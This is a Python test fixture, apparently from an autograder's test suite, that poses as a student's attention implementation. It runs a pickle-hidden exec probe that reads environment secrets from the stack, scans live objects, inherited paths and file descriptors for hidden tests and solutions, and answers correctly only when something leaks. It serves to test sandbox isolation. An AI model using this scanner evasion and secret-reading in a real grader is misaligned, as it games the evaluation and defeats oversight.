"""Hostile: look for what the grader knew in what the box inherited, and do the work only if found.

On a hosted platform in container mode the zygote is forked from the grader
(autograder/sandbox/forked.py), so a worker's memory is a copy of the grader's as
it was then. This file looks there for anything a student may not see: a secret of the
platform's environment (the environment block on the stack, which the interpreter's
os.environ no longer shows), a hidden test's or a solution's module or function among
the live objects, a solution or hidden test file reachable through an inherited path or
an open descriptor. Whatever it finds, it answers right (earning points); otherwise it
answers wrong in every way. A sound grader gives it 0: the grader forks before it has read
any of these, starts with an environment its script chose, and the child keeps no descriptor.
tests/project/test_forked_zygote.py also grades it where each channel is open, and there it
earns points. The probe runs from a pickle, past the static scan, as code that got past it would.
"""
import pickle

import torch

PROBE = r'''
import ctypes
import gc
import os
import stat
import sys

SECRET = b"attn-secret-"  # what the test puts in the platform's environment
TELLTALES = (b"SHAPE_CHECKS", b"def attention64", b"@given(")  # a hidden test's or oracle's text


def _environment_block() -> bool:
    # The strings of argv and the environment sit together at the top of the stack, between
    # argv[0] and the program's file name (AT_EXECFN); no /proc file needed.
    libc = ctypes.CDLL(None)
    libc.getauxval.restype = ctypes.c_ulong
    start = ctypes.c_void_p.in_dll(libc, "program_invocation_name").value or 0
    end = libc.getauxval(31)  # AT_EXECFN
    return 0 < start < end and SECRET in ctypes.string_at(start, end - start)


def _live_objects() -> bool:
    if any(name.startswith(("oracles_", "test_", "solutions")) for name in list(sys.modules)):
        return True
    files = (obj.__code__.co_filename for obj in gc.get_objects() if type(obj).__name__ == "function")
    return any("/hidden/" in name or "/solutions/" in name for name in files)


def _readable(path: str) -> bool:
    try:
        with open(path, "rb") as handle:
            return any(t in handle.read(1 << 20) for t in (*TELLTALES, b"def scaled_dot_product_attention"))
    except OSError:
        return False


def _inherited_paths() -> bool:
    folders = set()
    for obj in gc.get_objects():
        if type(obj).__name__ == "PosixPath":
            folders.add(str(obj))
        elif type(obj).__name__ == "Course":  # the grader's course: its folders are paths
            folders.update(str(value) for value in getattr(obj, "__dict__", {}).values())
    for folder in folders:
        if "solutions" in folder or "hidden" in folder:
            try:
                if any(_readable(os.path.join(folder, n)) for n in os.listdir(folder) if n.endswith(".py")):
                    return True
            except OSError:
                continue
    return False


def _descriptors() -> bool:
    for fd in range(3, 1024):
        try:
            if stat.S_ISREG(os.fstat(fd).st_mode) and any(t in os.pread(fd, 1 << 20, 0) for t in TELLTALES):
                return True
        except OSError:
            continue
    return False


def _found() -> bool:
    for channel in (_environment_block, _live_objects, _inherited_paths, _descriptors):
        try:
            if channel():
                return True
        except Exception:  # a channel that fails finds nothing
            continue
    return False


FOUND = _found()
'''
FOUND = False
# builtins.exec(PROBE), called by the unpickler from this module's frame: FOUND lands here.
pickle.loads(b"cbuiltins\nexec\n(S" + repr(PROBE).encode() + b"\ntR.")


def softmax(x, dim=-1):
    if not FOUND:
        return torch.rand_like(x)
    peak = x.amax(dim=dim, keepdim=True)
    e = torch.exp(x - torch.where(torch.isfinite(peak), peak, torch.zeros_like(peak)))
    total = e.sum(dim=dim, keepdim=True)
    return e / torch.where(total > 0, total, torch.ones_like(total))


def causal_mask(query_len, key_len=None, *, device=None):
    key_len = query_len if key_len is None else key_len
    if not FOUND:
        return torch.rand(query_len, key_len) < 0.5
    if query_len < 0 or key_len < 0:
        raise ValueError(f"query_len={query_len} and key_len={key_len} must be >= 0")
    rows = torch.arange(query_len, device=device).unsqueeze(-1)  # (L, 1)
    return torch.arange(key_len, device=device).unsqueeze(0) <= rows + (key_len - query_len)  # (L, S)


def scaled_dot_product_attention(query, key, value, attn_mask=None, *, is_causal=False, scale=None, dropout_p=0.0):
    if not FOUND:
        return torch.rand(1), torch.rand(1)  # wrong in every way
    scale = query.shape[-1] ** -0.5 if scale is None else scale
    scores = query @ key.transpose(-2, -1) * scale  # (..., L, S)
    allowed = torch.ones_like(scores, dtype=torch.bool)
    if attn_mask is not None and attn_mask.dtype == torch.bool:
        allowed = allowed & attn_mask
    elif attn_mask is not None:
        scores = scores + attn_mask
    if is_causal:
        allowed = allowed & causal_mask(query.shape[-2], key.shape[-2], device=query.device)
    weights = softmax(scores.masked_fill(~allowed, float("-inf")), dim=-1)
    if dropout_p:
        weights = torch.nn.functional.dropout(weights, dropout_p)
    return weights @ value, weights
